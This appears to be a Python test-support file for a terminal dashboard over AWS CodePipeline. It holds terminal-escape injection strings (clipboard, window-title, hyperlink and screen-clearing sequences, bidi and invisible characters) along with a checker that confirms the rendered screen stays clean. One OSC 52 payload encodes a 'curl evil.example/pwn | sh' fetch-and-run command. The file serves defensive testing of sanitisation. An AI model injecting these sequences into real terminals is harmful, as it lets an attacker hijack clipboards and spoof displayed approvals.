"""Hostile remote text for the tests: the attacks the 2026-12-05 report used (and their relatives), a hypothesis
strategy mixing them with arbitrary text, and what must never reach a terminal from them."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from hypothesis import strategies as st

from tui.ui.textual_compat import screen_strips

ATTACKS = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\",  # OSC 52: the clipboard
    "\x1b]0;APPROVAL-TITLE\x07",  # OSC 0: the window title
    "\x1b]8;;https://evil.example\x1b\\",  # OSC 8: a hyperlink
    "\x1b[2J\x1b[5;5H",  # clear the screen, move the cursor
    "\x1b[8m",  # concealed
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x9b2J",  # 8-bit CSI
    "\x9d0;8-bit title\x9c",  # 8-bit OSC
    "\x07\x00\x08\x0b\x0c\x7f\x85\x9c",  # BEL, NUL, BS, VT, FF, DEL, NEL, ST
    "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c",  # bidi overrides, isolates, marks
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",  # zero-width characters, soft hyphen
    "\U000e0041\U000e0042",  # Unicode tags (hidden ASCII)
]
#: The approval summary of the 2026-12-05 report: OSC 52 (clipboard: "curl evil.example/pwn | sh"), OSC 0 (window
#: title), CSI 2J (clear the screen) and CSI 5;5H (move the cursor) around "LGTM" and "FAKE".
REPORTED = "LGTM\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\\x1b]0;APPROVAL-TITLE\x1b\\\x1b[2J\x1b[5;5HFAKE"
#: Cleans to nothing: a string every remote field can carry without changing what the product does with it.
INVISIBLE = "".join(ATTACKS)
MARKUP = "[bold red]x[/]"  # must be shown as these characters, never as bold red "x"

#: What no cleaned text and no rendered segment may hold: C0 (bar tab and LF), DEL, C1, format characters
#: (bidi, zero-width, tags) and lone surrogates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"
    "\U000e0000-\U000e007f\ud800-\udfff]"
)


def concealing(sequence: str) -> bool:
    """Does ``sequence`` ask for concealed text (8 where a terminal reads an attribute, not a colour)?"""
    params = sequence[2:-1].split(";")
    i = 0
    while i < len(params):
        if params[i] in ("38", "48", "58") and i + 1 < len(params):
            i += 1 + {"5": 2, "2": 4}.get(params[i + 1], 0)
            continue
        head = params[i].split(":", 1)[0]
        if head.isdigit() and int(head) == 8:
            return True
        i += 1
    return False


hostile_text = st.lists(
    st.one_of(
        st.sampled_from([*ATTACKS, MARKUP, "\r\n", "\r", "\u2028", "\n", "\t"]),
        st.text(max_size=12),
        st.binary(max_size=12).map(lambda b: b.decode("utf-8", "surrogateescape")),
    ),
    max_size=8,
).map("".join)


# --- the flood: every string of every AWS answer, as botocore hands it to the product ----------------------------

LITERAL = "[bold red]MARKUP-LITERAL[/]"  # in every free text: must be drawn as these characters
#: Strings the product compares with AWS's fixed vocabulary (AWS allows only a few values there, never "["): they
#: get the invisible part only, so the product still recognises a CodeBuild action.
VOCABULARY = {"provider", "owner", "version", "category", "pipelineType", "executionMode", "Account"}  # 12 digits
#: JSON documents the product parses (IAM policies): a poisoned one is not JSON any more, and the plan stops at
#: "Unexpected error: JSONDecodeError" (reported, not this test's subject): left alone.
DOCUMENTS = {"PolicyDocument", "AssumeRolePolicyDocument", "Policy", "policy"}
#: Opaque pagination tokens go back to AWS byte for byte: left alone.
TOKENS = {"nextToken", "nextForwardToken", "nextBackwardToken", "NextToken", "NextContinuationToken", "Marker"}


Rewrite = Callable[[str, str, bool], str]  # (member name, value, a map key?) -> the value AWS "answers"


def flood(name: str, value: str, key: bool) -> str:
    """INVISIBLE around every string, and LITERAL around every string but map keys and VOCABULARY."""
    literal = "" if key or name in VOCABULARY else LITERAL
    return f"{INVISIBLE}{literal}{value}{literal}{INVISIBLE}"  # LITERAL ahead too: a truncated column shows it


def poison(value: Any, shape: Any, rewrite: Rewrite, name: str = "", *, key: bool = False) -> Any:
    """``value`` (a parsed botocore answer of ``shape``) with ``rewrite`` applied to every string but enums and
    pagination tokens."""
    if shape is None:
        return value
    kind = shape.type_name
    if kind == "structure" and isinstance(value, dict):
        return {k: poison(v, shape.members.get(k), rewrite, k) for k, v in value.items()}
    if kind == "list" and isinstance(value, list):
        return [poison(v, shape.member, rewrite, name) for v in value]
    if kind == "map" and isinstance(value, dict):
        return {
            poison(k, shape.key, rewrite, name, key=True): poison(v, shape.value, rewrite, name)
            for k, v in value.items()
        }
    untouched = getattr(shape, "enum", None) or name in TOKENS or name in DOCUMENTS
    if kind == "string" and isinstance(value, str) and not untouched:
        return rewrite(name, value, key)
    return value


def unpoison(value: Any, added: tuple[str, ...]) -> Any:
    """What the product sends back to AWS, without what was added (raw or cleaned): names and ids as AWS knows
    them."""
    if isinstance(value, str):
        for piece in added:
            value = value.replace(piece, "")
        return value
    if isinstance(value, dict):
        return {unpoison(k, added): unpoison(v, added) for k, v in value.items()}
    if isinstance(value, list):
        return [unpoison(v, added) for v in value]
    return value


@contextmanager
def rewritten_answers(rewrite: Rewrite, added: tuple[str, ...]) -> Iterator[list[str]]:
    """While active, every botocore client's answers (and error messages) go through ``rewrite``, and its requests
    lose ``added`` (each piece also as :func:`~tui.domain.text.clean` leaves it). Yields the operations answered,
    so a test can show the rewrite reached them."""
    from botocore.client import BaseClient
    from botocore.exceptions import ClientError

    from tui.domain.text import clean

    pieces = tuple(sorted({p for piece in added for p in (piece, clean(piece)) if p}, key=len, reverse=True))
    original = BaseClient._make_api_call
    seen: list[str] = []

    def call(self: Any, operation: str, params: dict[str, Any]) -> Any:
        try:
            result = original(self, operation, unpoison(params, pieces))
        except ClientError as exc:
            error = exc.response.get("Error", {})
            if "Message" in error:
                error["Message"] = rewrite("Message", error["Message"], False)
            raise
        seen.append(operation)
        return poison(result, self.meta.service_model.operation_model(operation).output_shape, rewrite)

    BaseClient._make_api_call = call  # type: ignore[method-assign]
    try:
        yield seen
    finally:
        BaseClient._make_api_call = original  # type: ignore[method-assign]


def flooded_aws() -> Any:
    """Every string of every AWS answer flooded (:func:`flood`)."""
    return rewritten_answers(flood, (INVISIBLE, LITERAL))


def rendered_rows(app: Any) -> list[list[Any]]:
    """Every segment the app's top screen draws now (what Textual would write to the terminal), row by row."""
    return [list(strip) for strip in screen_strips(app.screen)]


def dirt(app: Any) -> list[str]:
    """What a rendered segment of the top screen holds that must never reach a terminal: a control, ESC or
    format character, or markup that was read as markup (LITERAL's words drawn without its brackets)."""
    found: list[str] = []
    word = LITERAL[len("[bold red]") : -len("[/]")]
    for row in rendered_rows(app):
        text = "".join(segment.text for segment in row)
        found += [f"{type(app.screen).__name__}: {text!r}"] if FORBIDDEN.search(text) else []
        start = text.find(word)
        while start >= 0:  # read as markup, the word has lost both its brackets (a dialog may hide one side)
            end = start + len(word)
            if text[max(0, start - 4) : start] != "red]" and text[end : end + 3] != "[/]":
                found.append(f"{type(app.screen).__name__}: markup read as markup in {text!r}")
            start = text.find(word, end)
    return found


def literal_count(app: Any) -> int:
    return sum("".join(s.text for s in row).count("MARKUP-LITERAL") for row in rendered_rows(app))


# --- a pipeline with a manual approval (the emulator) ------------------------------------------------------


def gated_pipeline(env: Any) -> str:
    """A pipeline with a manual approval before the infrastructure stage, whose build then fails."""
    from tui.emulator.state import state

    state().start_on_create = False
    try:
        name = env.seed("infra-fails")
    finally:
        state().start_on_create = True
    cp = env.client("codepipeline")
    definition = cp.get_pipeline(name=name)["pipeline"]
    approval = {"category": "Approval", "owner": "AWS", "provider": "Manual", "version": "1"}
    stage = {"name": "Approve", "actions": [{"name": "Gate", "actionTypeId": approval, "runOrder": 1}]}
    definition["stages"].insert(1, stage)
    cp.update_pipeline(pipeline=definition)
    cp.start_pipeline_execution(name=name)
    return name


def _waiting_token(env: Any, name: str) -> str | None:
    cp = env.client("codepipeline")
    for stage in cp.get_pipeline_state(name=name)["stageStates"]:
        for action in stage.get("actionStates", []):
            latest = action.get("latestExecution") or {}
            if latest.get("token") and latest.get("status") == "InProgress":
                return str(latest["token"])
    return None


def approve(env: Any, name: str, summary: str, status: str = "Approved") -> None:
    """Answer the waiting approval (``env``: tests/support/dashboard.py Env) with ``summary``."""
    for _ in range(200):
        token = _waiting_token(env, name)
        if token:
            break
        env.clock.advance(1)
    assert token, "the approval never waited"
    result = {"summary": summary, "status": status}
    env.client("codepipeline").put_approval_result(
        pipelineName=name, stageName="Approve", actionName="Gate", result=result, token=token
    )
